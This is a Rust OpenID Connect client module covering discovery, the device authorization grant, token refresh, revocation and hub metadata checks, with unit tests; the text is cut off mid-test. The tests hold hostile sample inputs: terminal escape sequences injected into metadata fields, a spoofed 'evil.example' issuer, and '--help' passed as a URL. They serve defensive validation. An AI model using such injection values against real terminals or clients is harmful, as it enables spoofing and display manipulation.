//! The OpenID Connect client over blocking `ureq`: discovery, the device
//! authorization grant (RFC 8628), refresh, revocation (RFC 7009), and the
//! hub's protected-resource metadata (RFC 9728).
//!
//! Every failure is an [`AuthError`] of the right class: no answer at all is
//! `Unreachable`, an HTTP error answer is `Rejected` with its OAuth `error`
//! and `error_description`. Time (polling waits, expiry) enters only through
//! [`Pace`]. Nothing here stores tokens or logs.
//!
//! What a server says is checked here, before anyone uses it: an issuer
//! must be https unless it is this machine ([`heph_core::net`]), and so must
//! every endpoint its discovery document names unless the issuer itself is
//! loopback; a verification URI must be an absolute http(s) URL (so it can
//! never reach a browser opener as an option); a user code with terminal
//! escapes is refused, and error descriptions and claims are stripped of
//! them ([`heph_core::text`]); the hub's metadata must describe the hub it
//! was fetched from (RFC 9728 §3.3).

use std::time::Duration;

use heph_core::text::{has_unsafe, one_line};
use heph_core::wire::{HubUrl, ProtectedResource, route};
use serde::Deserialize;
use serde::de::DeserializeOwned;

use crate::error::{AuthError, LoginError};
use crate::secret::{AccessToken, DeviceCode, RefreshToken};
use crate::tokens::{TokenSet, jwt_string_claim, jwt_subject, sanitized};

/// How long to wait for a connection.
pub const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);
/// How long one request may take in all.
pub const REQUEST_TIMEOUT: Duration = Duration::from_secs(30);
/// The largest answer read from a provider or hub.
const MAX_BODY: u64 = 1024 * 1024;
/// RFC 8628 §3.2: the polling interval when the provider names none.
pub const DEFAULT_INTERVAL: Duration = Duration::from_secs(5);
/// RFC 8628 §3.5: what `slow_down` adds to the interval.
pub const SLOW_DOWN_STEP: Duration = Duration::from_secs(5);
/// The longest user code shown (RFC 8628 codes are a few characters).
const MAX_USER_CODE: usize = 64;
/// The default scope of a sign-in.
pub const DEFAULT_SCOPE: &str = "openid offline_access";

/// The clock and the sleep of the device-flow poll (injected in tests).
pub trait Pace {
    /// Unix milliseconds now.
    fn now_ms(&self) -> u64;
    /// Waits `d`.
    fn sleep(&self, d: Duration);
}

/// The real clock and `std::thread::sleep`.
#[derive(Debug, Clone, Copy, Default)]
pub struct SystemPace;

impl Pace for SystemPace {
    fn now_ms(&self) -> u64 {
        crate::system_now_ms()
    }
    fn sleep(&self, d: Duration) {
        std::thread::sleep(d);
    }
}

/// What discovery found out about a provider.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Provider {
    /// The issuer exactly as the discovery document states it.
    pub issuer: String,
    pub token_endpoint: String,
    pub device_authorization_endpoint: Option<String>,
    pub revocation_endpoint: Option<String>,
}

#[derive(Deserialize)]
struct Discovery {
    issuer: String,
    token_endpoint: String,
    #[serde(default)]
    device_authorization_endpoint: Option<String>,
    #[serde(default)]
    revocation_endpoint: Option<String>,
}

/// A started device authorization: what the user must open and approve.
#[derive(Debug, Clone)]
pub struct DeviceAuthorization {
    pub device_code: DeviceCode,
    pub user_code: String,
    pub verification_uri: String,
    pub verification_uri_complete: Option<String>,
    /// How long the code stays valid.
    pub expires_in: Duration,
    /// The polling interval the provider asked for.
    pub interval: Duration,
}

impl DeviceAuthorization {
    /// The URL to show and open: the complete one when offered.
    pub fn url(&self) -> &str {
        self.verification_uri_complete
            .as_deref()
            .unwrap_or(&self.verification_uri)
    }
}

#[derive(Deserialize)]
struct DeviceResponse {
    device_code: String,
    user_code: String,
    #[serde(default, alias = "verification_url")]
    verification_uri: Option<String>,
    #[serde(default)]
    verification_uri_complete: Option<String>,
    #[serde(default)]
    expires_in: Option<u64>,
    #[serde(default)]
    interval: Option<u64>,
}

#[derive(Deserialize)]
struct TokenResponse {
    access_token: String,
    #[serde(default)]
    expires_in: Option<u64>,
    #[serde(default)]
    refresh_token: Option<String>,
    #[serde(default)]
    scope: Option<String>,
    #[serde(default)]
    id_token: Option<String>,
}

#[derive(Deserialize)]
struct OAuthErrorBody {
    #[serde(default)]
    error: Option<String>,
    #[serde(default)]
    error_description: Option<String>,
}

/// The outcome of a refresh.
#[derive(Debug, Clone)]
pub struct Refreshed {
    pub tokens: TokenSet,
    /// Whether the provider issued a new refresh token (which must be saved
    /// before the new access token is used).
    pub rotated: bool,
}

/// The outcome of a revocation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Revocation {
    /// The provider accepted the revocation.
    Revoked,
    /// The provider offers no revocation endpoint.
    NotOffered,
}

/// One HTTP answer, read in full.
struct Answer {
    status: u16,
    body: Vec<u8>,
}

/// A blocking OIDC client. Cheap to clone.
#[derive(Clone)]
pub struct OidcClient {
    agent: ureq::Agent,
}

impl Default for OidcClient {
    fn default() -> Self {
        Self::new()
    }
}

/// Two issuer strings name the same issuer (exact, up to one trailing slash).
pub fn same_issuer(a: &str, b: &str) -> bool {
    a.strip_suffix('/').unwrap_or(a) == b.strip_suffix('/').unwrap_or(b)
}

/// The scheme and host of an absolute http(s) URL with no credentials, no
/// whitespace and no terminal escapes; `None` for anything else.
fn web_url(url: &str) -> Option<(bool, String)> {
    if has_unsafe(url) || url.chars().any(char::is_whitespace) {
        return None;
    }
    let uri: ureq::http::Uri = url.parse().ok()?;
    let scheme = uri.scheme_str()?;
    let https = if scheme.eq_ignore_ascii_case("https") {
        true
    } else if scheme.eq_ignore_ascii_case("http") {
        false
    } else {
        return None;
    };
    let authority = uri.authority()?;
    if authority.as_str().contains('@') || authority.host().is_empty() {
        return None;
    }
    Some((https, authority.host().to_owned()))
}

/// Checks the URL `name` (of the issuer `owner`, when it is one of its
/// endpoints) that `from` named: an absolute http(s) URL, and https unless
/// `loopback_ok` says plain http is fine (the issuer is this machine), or —
/// with `loopback_ok` `None` — unless the URL's own host is loopback.
/// Returns whether that host is loopback.
fn checked_url(
    url: &str,
    name: &str,
    owner: Option<&str>,
    from: &str,
    loopback_ok: Option<bool>,
) -> Result<bool, AuthError> {
    let Some((https, host)) = web_url(url) else {
        return Err(AuthError::Untrusted {
            from: one_line(from, 200).into_owned(),
            what: format!("a {name}"),
            reason: "is not an absolute http(s) URL (or holds control characters or credentials)",
        });
    };
    let loopback = heph_core::net::is_loopback_host(&host);
    if !https && !loopback_ok.unwrap_or(loopback) {
        return Err(AuthError::Insecure {
            what: match owner {
                Some(owner) => format!("the {name} of {}", one_line(owner, 200)),
                None => format!("the {name}"),
            },
            url: url.to_owned(),
        });
    }
    Ok(loopback)
}

/// The provider a discovery document (fetched from `url`) describes, once
/// every endpoint in it is a web URL, https unless the issuer is loopback.
fn provider_from(url: &str, d: Discovery, issuer_loopback: bool) -> Result<Provider, AuthError> {
    let endpoints = [
        ("token_endpoint", Some(&d.token_endpoint)),
        (
            "device_authorization_endpoint",
            d.device_authorization_endpoint.as_ref(),
        ),
        ("revocation_endpoint", d.revocation_endpoint.as_ref()),
    ];
    for (name, endpoint) in endpoints {
        if let Some(endpoint) = endpoint {
            checked_url(endpoint, name, Some(&d.issuer), url, Some(issuer_loopback))?;
        }
    }
    Ok(Provider {
        issuer: d.issuer,
        token_endpoint: d.token_endpoint,
        device_authorization_endpoint: d.device_authorization_endpoint,
        revocation_endpoint: d.revocation_endpoint,
    })
}

fn cause(e: &ureq::Error) -> String {
    match e {
        ureq::Error::Timeout(_) => "the request timed out".into(),
        ureq::Error::HostNotFound => "the host name does not resolve (DNS)".into(),
        ureq::Error::ConnectionFailed => "the connection failed".into(),
        ureq::Error::Io(io) if io.kind() == std::io::ErrorKind::ConnectionRefused => {
            "the connection was refused (is it running?)".into()
        }
        ureq::Error::Io(io) => format!("the connection failed: {io}"),
        ureq::Error::Tls(t) => format!("the TLS handshake failed: {t}"),
        ureq::Error::Rustls(t) => format!("the TLS handshake failed: {t}"),
        other => other.to_string(),
    }
}

fn unreachable(url: &str, e: &ureq::Error) -> AuthError {
    AuthError::Unreachable {
        url: url.to_owned(),
        cause: cause(e),
    }
}

fn rejected(url: &str, a: &Answer) -> AuthError {
    let body: OAuthErrorBody = serde_json::from_slice(&a.body).unwrap_or(OAuthErrorBody {
        error: None,
        error_description: None,
    });
    let clip = |s: String| -> String { one_line(&s, 300).into_owned() };
    AuthError::Rejected {
        url: url.to_owned(),
        status: a.status,
        error: body.error.map(clip),
        description: body.error_description.map(clip),
    }
}

fn parse<T: DeserializeOwned>(url: &str, what: &str, body: &[u8]) -> Result<T, AuthError> {
    serde_json::from_slice(body).map_err(|e| {
        AuthError::Other(format!(
            "{url} sent an answer that is not {what}: {}",
            sanitized(e)
        ))
    })
}

impl OidcClient {
    /// A client with the platform's roots and the crate's timeouts.
    pub fn new() -> Self {
        crate::install_crypto_provider();
        let agent = ureq::Agent::config_builder()
            .http_status_as_error(false)
            .timeout_connect(Some(CONNECT_TIMEOUT))
            .timeout_global(Some(REQUEST_TIMEOUT))
            .user_agent(concat!("heph/", env!("CARGO_PKG_VERSION")))
            .max_redirects(0)
            .build()
            .new_agent();
        Self { agent }
    }

    fn read(
        url: &str,
        resp: Result<ureq::http::Response<ureq::Body>, ureq::Error>,
    ) -> Result<Answer, AuthError> {
        let mut resp = resp.map_err(|e| unreachable(url, &e))?;
        let status = resp.status().as_u16();
        let body = resp
            .body_mut()
            .with_config()
            .limit(MAX_BODY)
            .read_to_vec()
            .map_err(|e| unreachable(url, &e))?;
        Ok(Answer { status, body })
    }

    fn get(&self, url: &str) -> Result<Answer, AuthError> {
        Self::read(
            url,
            self.agent
                .get(url)
                .header("Accept", "application/json")
                .call(),
        )
    }

    fn post_form(&self, url: &str, form: &[(&str, &str)]) -> Result<Answer, AuthError> {
        Self::read(
            url,
            self.agent
                .post(url)
                .header("Accept", "application/json")
                .send_form(form.iter().copied()),
        )
    }

    /// Fetches the provider's discovery document; its `issuer` must equal
    /// `issuer` (up to a trailing slash).
    ///
    /// The issuer must be https unless it is this machine; every endpoint
    /// the document names must be https unless the issuer is loopback.
    pub fn discover(&self, issuer: &str) -> Result<Provider, AuthError> {
        let issuer_loopback = match web_url(issuer) {
            Some(_) => checked_url(issuer, "issuer", None, issuer, None)?,
            None => {
                return Err(AuthError::Other(format!(
                    "the issuer {:?} is not an absolute https:// URL; give the provider's issuer URL (--issuer https://idp.example)",
                    one_line(issuer, 200)
                )));
            }
        };
        let url = format!(
            "{}/.well-known/openid-configuration",
            issuer.trim_end_matches('/')
        );
        let answer = self.get(&url)?;
        if !(200..300).contains(&answer.status) {
            return Err(rejected(&url, &answer));
        }
        let d: Discovery = parse(&url, "an OpenID discovery document", &answer.body)?;
        if !same_issuer(&d.issuer, issuer) {
            return Err(AuthError::Other(format!(
                "the discovery document at {url} names the issuer {:?}, not {issuer:?}; use exactly the issuer the provider states (--issuer {})",
                d.issuer, d.issuer
            )));
        }
        provider_from(&url, d, issuer_loopback)
    }

    /// Reads the hub's `/.well-known/oauth-protected-resource`. Its
    /// `resource` must be `hub` (compared normalized, RFC 9728 §3.3), and no
    /// client id or scope in it may hold terminal escapes.
    pub fn protected_resource(&self, hub: &HubUrl) -> Result<ProtectedResource, AuthError> {
        let url = hub.join(route::PROTECTED_RESOURCE);
        let answer = self.get(&url)?;
        if !(200..300).contains(&answer.status) {
            return Err(rejected(&url, &answer));
        }
        let meta: ProtectedResource = parse(&url, "protected-resource metadata", &answer.body)?;
        if HubUrl::parse(&meta.resource).ok().as_ref() != Some(hub) {
            return Err(AuthError::ResourceMismatch {
                hub: hub.to_string(),
                resource: one_line(&meta.resource, 200).into_owned(),
            });
        }
        let untrusted = |what: &str| AuthError::Untrusted {
            from: url.clone(),
            what: what.into(),
            reason: "holds control characters",
        };
        if meta.heph_client_id.as_deref().is_some_and(has_unsafe) {
            return Err(untrusted("a client id"));
        }
        if meta.scopes_supported.iter().any(|s| has_unsafe(s)) {
            return Err(untrusted("a scope"));
        }
        if meta.authorization_servers.iter().any(|s| has_unsafe(s)) {
            return Err(untrusted("an issuer"));
        }
        Ok(meta)
    }

    /// Starts a device authorization (RFC 8628 §3.1).
    pub fn start_device(
        &self,
        provider: &Provider,
        client_id: &str,
        scope: &str,
    ) -> Result<DeviceAuthorization, AuthError> {
        let Some(url) = &provider.device_authorization_endpoint else {
            return Err(AuthError::NoDeviceFlow {
                issuer: provider.issuer.clone(),
            });
        };
        let answer = self.post_form(url, &[("client_id", client_id), ("scope", scope)])?;
        if !(200..300).contains(&answer.status) {
            return Err(rejected(url, &answer));
        }
        let d: DeviceResponse = parse(url, "a device authorization", &answer.body)?;
        let untrusted = |reason| AuthError::Untrusted {
            from: url.clone(),
            what: "a user_code".into(),
            reason,
        };
        // The user types the code: shown verbatim, so refused rather than altered.
        if d.user_code.is_empty() || d.user_code.chars().count() > MAX_USER_CODE {
            return Err(untrusted("is empty or too long"));
        }
        if has_unsafe(&d.user_code) {
            return Err(untrusted("holds control characters"));
        }
        // A browser opener takes the URI as an argument: it must be a web URL
        // (so never an option like `--help`), https unless the issuer is local.
        let issuer_loopback = web_url(&provider.issuer)
            .is_some_and(|(_, host)| heph_core::net::is_loopback_host(&host));
        for (name, uri) in [
            ("verification_uri", d.verification_uri.as_ref()),
            (
                "verification_uri_complete",
                d.verification_uri_complete.as_ref(),
            ),
        ] {
            if let Some(uri) = uri {
                checked_url(
                    uri,
                    name,
                    Some(&provider.issuer),
                    url,
                    Some(issuer_loopback),
                )?;
            }
        }
        let verification_uri = d
            .verification_uri
            .or_else(|| d.verification_uri_complete.clone())
            .ok_or_else(|| {
                AuthError::Other(format!(
                    "{url} sent a device authorization without a verification_uri"
                ))
            })?;
        Ok(DeviceAuthorization {
            device_code: DeviceCode::new(d.device_code),
            user_code: d.user_code,
            verification_uri,
            verification_uri_complete: d.verification_uri_complete,
            expires_in: Duration::from_secs(d.expires_in.unwrap_or(600)),
            interval: d
                .interval
                .map(Duration::from_secs)
                .unwrap_or(DEFAULT_INTERVAL),
        })
    }

    /// Polls the token endpoint until the user approves, denies, or the code
    /// expires (RFC 8628 §3.4–3.5): waits `interval` before each poll;
    /// `authorization_pending` polls again; `slow_down` adds 5 s for good; a
    /// transport failure keeps the interval and polls again.
    pub fn poll_device(
        &self,
        provider: &Provider,
        client_id: &str,
        auth: &DeviceAuthorization,
        pace: &dyn Pace,
    ) -> Result<TokenSet, LoginError> {
        let deadline = pace
            .now_ms()
            .saturating_add(auth.expires_in.as_millis() as u64);
        let mut interval = auth.interval.max(Duration::from_secs(1));
        let url = &provider.token_endpoint;
        loop {
            pace.sleep(interval);
            if pace.now_ms() >= deadline {
                return Err(LoginError::Expired);
            }
            let answer = match self.post_form(
                url,
                &[
                    ("grant_type", "urn:ietf:params:oauth:grant-type:device_code"),
                    ("device_code", auth.device_code.expose()),
                    ("client_id", client_id),
                ],
            ) {
                Ok(a) => a,
                // A network error never shortens the wait.
                Err(AuthError::Unreachable { .. }) => continue,
                Err(e) => return Err(e.into()),
            };
            if (200..300).contains(&answer.status) {
                return Ok(self.tokens(provider, client_id, url, &answer, None)?);
            }
            let err = rejected(url, &answer);
            match err.oauth_error() {
                Some("authorization_pending") => {}
                Some("slow_down") => interval += SLOW_DOWN_STEP,
                Some("access_denied") => return Err(LoginError::Denied),
                Some("expired_token") => return Err(LoginError::Expired),
                _ => return Err(err.into()),
            }
        }
    }

    fn tokens(
        &self,
        provider: &Provider,
        client_id: &str,
        url: &str,
        answer: &Answer,
        previous: Option<&TokenSet>,
    ) -> Result<TokenSet, AuthError> {
        let t: TokenResponse = parse(url, "a token response", &answer.body)?;
        let now = crate::system_now_ms();
        let subject = t
            .id_token
            .as_deref()
            .and_then(jwt_subject)
            .or_else(|| jwt_subject(&t.access_token))
            .or_else(|| previous.and_then(|p| p.subject.clone()));
        let username = t
            .id_token
            .as_deref()
            .and_then(|id| jwt_string_claim(id, "preferred_username"))
            .or_else(|| previous.and_then(|p| p.username.clone()));
        Ok(TokenSet {
            access_token: AccessToken::new(t.access_token),
            refresh_token: t
                .refresh_token
                .map(RefreshToken::new)
                .or_else(|| previous.and_then(|p| p.refresh_token.clone())),
            expires_at_ms: t
                .expires_in
                .map(|s| now.saturating_add(s.saturating_mul(1000))),
            issuer: provider.issuer.clone(),
            client_id: client_id.to_owned(),
            subject,
            username,
            scope: t.scope.or_else(|| previous.and_then(|p| p.scope.clone())),
        })
    }

    /// Refreshes `tokens` (RFC 6749 §6). Keeps the old refresh token when
    /// the provider issues no new one.
    pub fn refresh(&self, provider: &Provider, tokens: &TokenSet) -> Result<Refreshed, AuthError> {
        let Some(refresh) = &tokens.refresh_token else {
            return Err(AuthError::Other(
                "there is no refresh token to refresh with (the provider issued none at sign-in)"
                    .into(),
            ));
        };
        let url = &provider.token_endpoint;
        let answer = self.post_form(
            url,
            &[
                ("grant_type", "refresh_token"),
                ("refresh_token", refresh.expose()),
                ("client_id", &tokens.client_id),
            ],
        )?;
        if !(200..300).contains(&answer.status) {
            return Err(rejected(url, &answer));
        }
        let new = self.tokens(provider, &tokens.client_id, url, &answer, Some(tokens))?;
        let rotated = new.refresh_token.as_ref() != Some(refresh);
        Ok(Refreshed {
            tokens: new,
            rotated,
        })
    }

    /// Revokes a refresh token (RFC 7009) when the provider offers revocation.
    pub fn revoke(
        &self,
        provider: &Provider,
        client_id: &str,
        token: &RefreshToken,
    ) -> Result<Revocation, AuthError> {
        let Some(url) = &provider.revocation_endpoint else {
            return Ok(Revocation::NotOffered);
        };
        let answer = self.post_form(
            url,
            &[
                ("token", token.expose()),
                ("token_type_hint", "refresh_token"),
                ("client_id", client_id),
            ],
        )?;
        if (200..300).contains(&answer.status) {
            Ok(Revocation::Revoked)
        } else {
            Err(rejected(url, &answer))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::ErrorClass;
    use crate::fake::{FakeServer, Reply};
    use std::cell::RefCell;

    /// A clock that moves only when the poll sleeps; records every sleep.
    struct FakePace {
        now: RefCell<u64>,
        sleeps: RefCell<Vec<u64>>,
    }

    impl FakePace {
        fn new() -> Self {
            Self {
                now: RefCell::new(1_000_000),
                sleeps: RefCell::new(Vec::new()),
            }
        }
        fn sleeps(&self) -> Vec<u64> {
            self.sleeps.borrow().clone()
        }
    }

    impl Pace for FakePace {
        fn now_ms(&self) -> u64 {
            *self.now.borrow()
        }
        fn sleep(&self, d: Duration) {
            self.sleeps.borrow_mut().push(d.as_secs());
            *self.now.borrow_mut() += d.as_millis() as u64;
        }
    }

    fn provider(url: &str) -> Provider {
        Provider {
            issuer: url.to_owned(),
            token_endpoint: format!("{url}/token"),
            device_authorization_endpoint: Some(format!("{url}/device")),
            revocation_endpoint: Some(format!("{url}/revoke")),
        }
    }

    fn device(interval: u64, expires: u64) -> DeviceAuthorization {
        DeviceAuthorization {
            device_code: DeviceCode::new("dc-SECRET"),
            user_code: "ABCD-EFGH".into(),
            verification_uri: "http://x/device".into(),
            verification_uri_complete: None,
            expires_in: Duration::from_secs(expires),
            interval: Duration::from_secs(interval),
        }
    }

    fn oauth(status: u16, error: &str) -> Reply {
        Reply::json(
            status,
            &format!(r#"{{"error":"{error}","error_description":"about {error}"}}"#),
        )
    }

    const TOKENS: &str = r#"{"access_token":"at-NEW","token_type":"Bearer","expires_in":60,"refresh_token":"rt-NEW","scope":"openid offline_access","id_token":"eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbGljZSIsImF1ZCI6IngiLCJwcmVmZXJyZWRfdXNlcm5hbWUiOiJBbGljZSBBLiJ9.c2ln"}"#;

    #[test]
    fn polling_follows_rfc_8628() {
        let server = FakeServer::start(vec![
            oauth(400, "authorization_pending"),
            oauth(400, "slow_down"),
            Reply::Drop,
            oauth(400, "authorization_pending"),
            oauth(400, "slow_down"),
            Reply::json(200, TOKENS),
        ]);
        let pace = FakePace::new();
        let p = provider(&server.url());
        let tokens = OidcClient::new()
            .poll_device(&p, "heph", &device(5, 600), &pace)
            .unwrap();
        // slow_down adds 5 s and never shrinks back, not after a network error either.
        assert_eq!(pace.sleeps(), [5, 5, 10, 10, 10, 15]);
        assert_eq!(tokens.subject.as_deref(), Some("alice"));
        assert_eq!(tokens.username.as_deref(), Some("Alice A."));
        assert_eq!(tokens.refresh_token.unwrap().expose(), "rt-NEW");
        let requests = server.requests();
        assert_eq!(requests.len(), 5, "the dropped connection sent no answer");
        assert!(
            requests[0]
                .body
                .contains("grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Adevice_code"),
            "{}",
            requests[0].body
        );
        assert!(requests[0].body.contains("device_code=dc-SECRET"));
        assert!(requests[0].body.contains("client_id=heph"));
    }

    #[test]
    fn denial_and_expiry_end_the_poll_with_a_clear_message() {
        let check = |reply: Reply, expected: LoginError| {
            let server = FakeServer::start(vec![oauth(400, "authorization_pending"), reply]);
            let err = OidcClient::new()
                .poll_device(
                    &provider(&server.url()),
                    "heph",
                    &device(5, 600),
                    &FakePace::new(),
                )
                .unwrap_err();
            assert_eq!(err, expected);
        };
        check(oauth(400, "access_denied"), LoginError::Denied);
        check(oauth(400, "expired_token"), LoginError::Expired);
        assert!(LoginError::Denied.to_string().contains("denied"));
        assert!(LoginError::Expired.to_string().contains("expired"));
        // The device code's own lifetime runs out without an answer.
        let server = FakeServer::start(vec![oauth(400, "authorization_pending"); 3]);
        let pace = FakePace::new();
        let err = OidcClient::new()
            .poll_device(&provider(&server.url()), "heph", &device(5, 12), &pace)
            .unwrap_err();
        assert_eq!(err, LoginError::Expired);
        assert_eq!(pace.sleeps(), [5, 5, 5]);
        // Another error is a rejection with its code.
        let server = FakeServer::start(vec![oauth(400, "invalid_client")]);
        let err = OidcClient::new()
            .poll_device(
                &provider(&server.url()),
                "heph",
                &device(5, 600),
                &FakePace::new(),
            )
            .unwrap_err();
        let LoginError::Auth(e) = err else {
            panic!("{err:?}")
        };
        assert_eq!(e.class(), ErrorClass::Rejected);
        assert!(
            e.to_string()
                .contains("HTTP 400: invalid_client (about invalid_client)"),
            "{e}"
        );
    }

    #[test]
    fn discovery_pins_the_issuer_and_finds_the_device_endpoint() {
        let server = FakeServer::start(vec![]);
        let url = server.url();
        let doc = |issuer: &str, device: bool| {
            let mut d =
                serde_json::json!({"issuer": issuer, "token_endpoint": format!("{url}/token")});
            if device {
                d["device_authorization_endpoint"] = format!("{url}/device").into();
            }
            Reply::json(200, &d.to_string())
        };
        server.push(doc(&format!("{url}/"), true));
        let p = OidcClient::new().discover(&url).unwrap();
        assert_eq!(
            p.issuer,
            format!("{url}/"),
            "the provider's own spelling is kept"
        );
        assert_eq!(
            server.requests()[0].path,
            "/.well-known/openid-configuration"
        );

        server.push(doc("https://evil.example", true));
        let err = OidcClient::new().discover(&url).unwrap_err();
        assert!(
            err.to_string()
                .contains("names the issuer \"https://evil.example\""),
            "{err}"
        );

        server.push(doc(&url, false));
        let p = OidcClient::new().discover(&url).unwrap();
        let err = OidcClient::new()
            .start_device(&p, "heph", DEFAULT_SCOPE)
            .unwrap_err();
        assert_eq!(err.class(), ErrorClass::Other);
        assert!(
            err.to_string()
                .contains("does not offer the device authorization grant"),
            "{err}"
        );
        assert!(
            err.to_string().contains("enable the device code flow"),
            "{err}"
        );

        server.push(Reply::json(
            200,
            r#"{"device_code":"dc","user_code":"U-C","verification_uri":"http://v","verification_uri_complete":"http://v?c=U-C","expires_in":300}"#,
        ));
        let d = OidcClient::new()
            .start_device(&provider(&url), "heph", DEFAULT_SCOPE)
            .unwrap();
        assert_eq!((d.url(), d.interval), ("http://v?c=U-C", DEFAULT_INTERVAL));
        assert!(
            server
                .requests()
                .last()
                .unwrap()
                .body
                .contains("scope=openid+offline_access")
        );
    }

    #[test]
    fn refresh_keeps_or_rotates_the_refresh_token() {
        let server = FakeServer::start(vec![
            Reply::json(200, r#"{"access_token":"at-2","expires_in":60}"#),
            Reply::json(
                200,
                r#"{"access_token":"at-3","expires_in":60,"refresh_token":"rt-3"}"#,
            ),
            oauth(400, "invalid_grant"),
        ]);
        let p = provider(&server.url());
        let client = OidcClient::new();
        let old = TokenSet {
            access_token: AccessToken::new("at-1"),
            refresh_token: Some(RefreshToken::new("rt-1")),
            expires_at_ms: Some(0),
            issuer: p.issuer.clone(),
            client_id: "heph".into(),
            subject: Some("alice".into()),
            username: Some("Alice A.".into()),
            scope: Some("openid".into()),
        };
        let r = client.refresh(&p, &old).unwrap();
        assert!(!r.rotated);
        assert_eq!(r.tokens.refresh_token.as_ref().unwrap().expose(), "rt-1");
        assert_eq!(r.tokens.access_token.expose(), "at-2");
        assert_eq!(r.tokens.subject.as_deref(), Some("alice"));
        assert_eq!(
            r.tokens.username.as_deref(),
            Some("Alice A."),
            "kept across a refresh"
        );
        let r = client.refresh(&p, &r.tokens).unwrap();
        assert!(r.rotated);
        assert_eq!(r.tokens.refresh_token.as_ref().unwrap().expose(), "rt-3");
        assert!(server.requests()[1].body.contains("refresh_token=rt-1"));
        let err = client.refresh(&p, &r.tokens).unwrap_err();
        assert_eq!(
            err.class(),
            ErrorClass::Rejected,
            "a refusing provider is reachable"
        );
        assert!(err.is_invalid_grant());
    }

    #[test]
    fn unreachable_names_the_url_and_the_cause() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        drop(listener);
        let err = OidcClient::new().discover(&url).unwrap_err();
        assert_eq!(err.class(), ErrorClass::Unreachable);
        let text = err.to_string();
        assert!(
            text.contains(&format!("{url}/.well-known/openid-configuration")),
            "{text}"
        );
        assert!(text.contains("refused"), "{text}");
        // A 5xx answer is a rejection, not unreachable.
        let server = FakeServer::start(vec![Reply::json(503, "<html>down</html>")]);
        let err = OidcClient::new().discover(&server.url()).unwrap_err();
        assert_eq!(err.class(), ErrorClass::Rejected);
        assert!(err.to_string().ends_with("HTTP 503"), "{err}");
    }

    #[test]
    fn revocation_when_offered() {
        let server = FakeServer::start(vec![Reply::json(200, "")]);
        let mut p = provider(&server.url());
        let rt = RefreshToken::new("rt-SECRET");
        assert_eq!(
            OidcClient::new().revoke(&p, "heph", &rt).unwrap(),
            Revocation::Revoked
        );
        let req = &server.requests()[0];
        assert_eq!(req.path, "/revoke");
        assert!(
            req.body.contains("token=rt-SECRET")
                && req.body.contains("token_type_hint=refresh_token")
        );
        p.revocation_endpoint = None;
        assert_eq!(
            OidcClient::new().revoke(&p, "heph", &rt).unwrap(),
            Revocation::NotOffered
        );
    }

    #[test]
    fn the_hubs_metadata_names_issuer_and_client() {
        let server = FakeServer::start(vec![]);
        // The resource is compared normalized: another spelling of the same URL is fine.
        let spelled = server.url().replace("http://", "HTTP://") + "/";
        server.push(Reply::json(
            200,
            &serde_json::json!({"resource": spelled, "authorization_servers":["http://idp/"],"heph_client_id":"heph","scopes_supported":["openid","offline_access"]}).to_string(),
        ));
        let hub = HubUrl::parse(&server.url()).unwrap();
        let meta = OidcClient::new().protected_resource(&hub).unwrap();
        assert_eq!(meta.authorization_servers, ["http://idp/"]);
        assert_eq!(meta.heph_client_id.as_deref(), Some("heph"));
        assert_eq!(server.requests()[0].path, route::PROTECTED_RESOURCE);
    }

    #[test]
    fn metadata_about_another_resource_or_with_escapes_is_refused() {
        let server = FakeServer::start(vec![]);
        let hub = HubUrl::parse(&server.url()).unwrap();
        let check = |meta: serde_json::Value, expected: &str| {
            server.push(Reply::json(200, &meta.to_string()));
            let err = OidcClient::new().protected_resource(&hub).unwrap_err();
            assert_eq!(err.class(), ErrorClass::Other);
            assert!(err.to_string().contains(expected), "{err}");
            assert!(!err.to_string().contains('\x1b'), "{err}");
        };
        let own = server.url();
        check(
            serde_json::json!({"resource": "https://evil.example", "authorization_servers": ["https://evil.example"]}),
            &format!("describes itself as \"https://evil.example\", not {own}"),
        );
        check(
            serde_json::json!({"resource": ""}),
            "describes itself as \"\"",
        );
        insta::assert_snapshot!(
            AuthError::ResourceMismatch {
                hub: "https://hub.example".into(),
                resource: "https://evil.example".into(),
            },
            @r#"the hub at https://hub.example describes itself as "https://evil.example", not https://hub.example, so its metadata cannot be trusted to name this hub's identity provider (RFC 9728 §3.3)"#
        );
        check(
            serde_json::json!({"resource": format!("{own}/other")}),
            "RFC 9728",
        );
        check(
            serde_json::json!({"resource": "\u{1b}]0;pwned\u{7}https://x"}),
            "describes itself as \"]0;pwnedhttps://x\"",
        );
        check(
            serde_json::json!({"resource": own, "heph_client_id": "heph\u{1b}[2J"}),
            "sent a client id that holds control characters",
        );
        check(
            serde_json::json!({"resource": own, "scopes_supported": ["openid\r\nhint: x"]}),
            "sent a scope that holds control characters",
        );
        check(
            serde_json::json!({"resource": own, "authorization_servers": ["https://idp\u{1b}[2J"]}),
            "sent an issuer that holds control characters",
        );
    }

    #[test]
    fn issuers_and_endpoints_must_be_https_unless_the_issuer_is_loopback() {
        // A non-loopback http issuer is refused before anything is sent.
        for issuer in [
            "http://idp.example",
            "http://10.0.0.1:8080/oidc",
            "http://foo.localhost.example",
        ] {
            let err = OidcClient::new().discover(issuer).unwrap_err();
            assert!(
                matches!(&err, AuthError::Insecure { what, url } if what == "the issuer" && url == issuer),
                "{err:?}"
            );
        }
        insta::assert_snapshot!(
            OidcClient::new().discover("http://idp.example").unwrap_err().to_string(),
            @"the issuer http://idp.example is plain http:// to another machine, so the sign-in and its tokens would cross the network unencrypted; use the provider's https:// URL"
        );
        for issuer in [
            "idp.example",
            "ftp://idp.example",
            "--help",
            "https://u:p@idp.example",
        ] {
            let err = OidcClient::new().discover(issuer).unwrap_err();
            assert_eq!(err.class(), ErrorClass::Other, "{issuer}: {err}");
            assert!(
                !matches!(err, AuthError::Unreachable { .. }),
                "{issuer}: {err}"
            );
        }
        // Endpoints: https under an https issuer; anything web under a loopback one.
        let doc = |token: &str, device: &str, revoke: &str| -> Discovery {
            serde_json::from_value(serde_json::json!({
                "issuer": "https://idp.example",
                "token_endpoint": token,
                "device_authorization_endpoint": device,
                "revocation_endpoint": revoke,
            }))
            .unwrap()
        };
        let good = || {
            doc(
                "https://idp.example/token",
                "https://idp.example/device",
                "https://idp.example/revoke",
